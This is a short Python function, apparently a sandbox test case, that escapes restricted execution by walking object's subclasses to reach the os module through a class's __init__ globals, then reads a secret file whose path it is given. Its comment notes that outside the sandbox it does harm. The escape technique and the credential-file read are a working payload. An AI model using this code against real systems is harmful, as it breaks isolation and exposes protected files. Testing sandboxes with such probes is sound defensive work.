# Walk object's subclasses to a class whose module holds `os`, and read a file.
# This is tried without the sandbox too: there it does harm.
def run(c):
    for cls in ().__class__.__base__.__subclasses__():
        init = getattr(cls, "__init__", None)
        space = getattr(init, "__globals__", {})
        for name in ("os", "posix", "sys"):
            module = space.get(name)
            if module is None:
                continue
            os = module.modules["os"] if name == "sys" else module
            try:
                handle = os.open(c["secret"], 0)
                return os.read(handle, 999).decode()
            except OSError as error:
                last = repr(error)
    return last
